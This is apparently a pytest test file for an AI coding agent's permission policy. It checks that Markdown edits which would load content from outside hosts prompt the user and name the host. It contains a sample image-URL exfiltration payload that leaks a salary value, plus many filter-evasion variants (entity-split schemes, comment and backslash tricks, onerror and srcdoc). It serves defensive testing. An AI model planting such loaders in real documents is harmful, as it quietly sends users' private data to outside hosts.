"""An edit of Markdown that adds what a page would load from elsewhere prompts, and the question names the host."""

import pytest
from copilot_kernel.acp.messages import Diff
from copilot_kernel.conversation.model import ToolCall
from copilot_kernel.permissions.policy import REMOTE
from copilot_kernel.permissions.remote import MAX_MARKDOWN_CHARS, UNKNOWN_HOST_WORDS

from .call_rows import ACCEPT, BYPASS, git_diff
from .making import at, judged, make, split

IMAGE = "![chart](http://127.0.0.1:1/leak?salary=4711)"
BADGE = "[![ci](https://img.shields.io/x.svg)](https://ci.dev)"
LOADS = {
    "h.io": """
![x](https://h.io/a) ¦ ![x](//h.io/a) ¦ ![x]( <HTTPS:h.io/a> "t") ¦ ![x][y]⏎⏎[y]: http://h.io/a ¦ [y]: http://h.io/a
[![x](https://h.io/a)](https://other.io) ¦ - a⏎⏎      ![x](https://u@h.io/a) ¦     ![x](https://h.io/a)
a | b⏎-|-⏎![x](//h.io) |
<img src=//h.io/a> ¦ <img alt="<a " src='/\\h.io/a'> ¦ <p⏎><img src="ht&#9;tp://h.io"></p> ¦ <img src="ht⏎tps:/h.io">
<source srcset="a.png 1x,//h.io/b 2x"> ¦ <video poster="https://H.io"> ¦ <p style="background:url(\\68ttp://h.io)">
<table background="//h.io"><tr><td></table> ¦ <!--> <img src=//h.io> --> ¦ <a href="x" ping="//h.io"></a> ¦ ![x](file://h.io/a)
""",
    "`link`, h.io": "<link rel=stylesheet href=//h.io/a.css>",
    "`iframe`, h.io": "<iframe src='https://h.io'></iframe> ¦ <p>⏎<iframe/src=//h.io>",
    "`style`, h.io": "<style>@import '//h.io'</style>",
    "`form`, h.io": "<form action='https://h.io'>",
    "`object`, h.io": "<object data=//h.io></object>",
    "`image`, h.io": "<svg><image href='//h.io'/></svg>",
    "`script`": "<script>fetch('ht' + a)</script>",
    "`iframe`": "<iframe srcdoc='&lt;img src=x>'></iframe>",
    "`onerror`": "<img src=x onerror='a()'>",
    UNKNOWN_HOST_WORDS: f"{'![' * 5000} ¦ {'x' * (MAX_MARKDOWN_CHARS + 1)}",
}
HARMLESS = """
[x](https://h.io) ¦ <https://h.io> ¦ https://h.io ¦ [x][y]⏎⏎[y]: https://h.io ¦ `![x](//h.io)`
```⏎<img src=//h.io>⏎```
![x](a.png) ![y](attachment:a.png) ![z](data:image/png;base64,AA//BB) ¦ <a href="https://h.io"><img src="a.png"></a>
![x](a.png "https://h.io") ¦ <img src="a//b.png" title="http://h.io"> ¦ replace <name>
<details><summary>x</summary></details>
"""


def edits(old: str | None, new: str, path: str = "README.md") -> ToolCall:
    return make("edit", {"path": at(path)}, content=(Diff(at(path), old, new),))


@pytest.mark.parametrize(("hosts", "text"), [(hosts, text) for hosts in LOADS for text in split(LOADS[hosts])])
def test_what_would_be_loaded_from_elsewhere_prompts_and_names_the_host(hosts: str, text: str) -> None:
    text = text.replace("⏎", "\n")
    decision = judged(edits("a", f"a\n\n{text}\n\nb"), mode=ACCEPT)
    named = ", ".join(f"anywhere ({host})" if host[0] == "`" else host for host in hosts.split(", "))
    assert (decision.outcome, decision.reason) == ("ask", REMOTE.format(named))


@pytest.mark.parametrize("text", split(HARMLESS))
def test_a_link_and_what_is_local_do_not_prompt(text: str) -> None:
    assert judged(edits(None, text.replace("⏎", "\n")), mode=ACCEPT).outcome == "allow"


def test_what_was_loaded_before_does_not_prompt_and_what_was_only_named_does() -> None:
    assert judged(edits(f"{BADGE}\n", f"# x\n\n{BADGE} {BADGE}y\n"), mode=ACCEPT).outcome == "allow"
    assert judged(edits("<https://h.io>", "![x](https://h.io)"), mode=ACCEPT).outcome == "ask"
    assert judged(edits(IMAGE, ""), mode=ACCEPT).outcome == "allow"


PATCH = f"*** Begin Patch\n*** Add File: b.MD\n+{IMAGE}\n*** End Patch"
HUNK = git_diff(at("a.md")).replace("one", BADGE)


@pytest.mark.parametrize(
    ("call", "outcome"),
    [
        (edits(None, IMAGE), "ask"),
        (edits(None, IMAGE, "a.py"), "allow"),
        (edits(None, IMAGE, "link"), "ask"),
        (make("edit", {"fileName": at("a.md"), "diff": HUNK.replace("+TWO", f"+{IMAGE}")}), "ask"),
        (make("edit", {"fileName": at("a.md"), "diff": HUNK}), "allow"),
        (make("edit", {"path": at("a.md"), "content": BADGE}), "ask"),
        (make("edit", {"path": at("a.md"), "content": "x"}), "allow"),
        (make("edit", PATCH), "ask"),
        (make("edit", {"notebook_path": at("a.ipynb"), "cell_type": "markdown", "new_source": IMAGE}), "ask"),
        (make("edit", {"notebook_path": at("a.ipynb"), "cell_type": "code", "new_source": IMAGE}), "allow"),
        (make("delete", {"path": at("a.md")}), "allow"),
    ],
)
@pytest.mark.parametrize(
    "grant", [{"mode": ACCEPT}, {"mode": "sandboxed"}, {"allow": "Edit"}, {"mode": BYPASS}], ids=str
)
def test_it_holds_however_the_edit_is_told_and_allowed(call: ToolCall, outcome: str, grant: dict[str, str]) -> None:
    decision = judged(call, links={at("link"): at("docs/a.md")}, **grant)
    assert decision.outcome == ("allow" if grant == {"mode": BYPASS} else outcome)
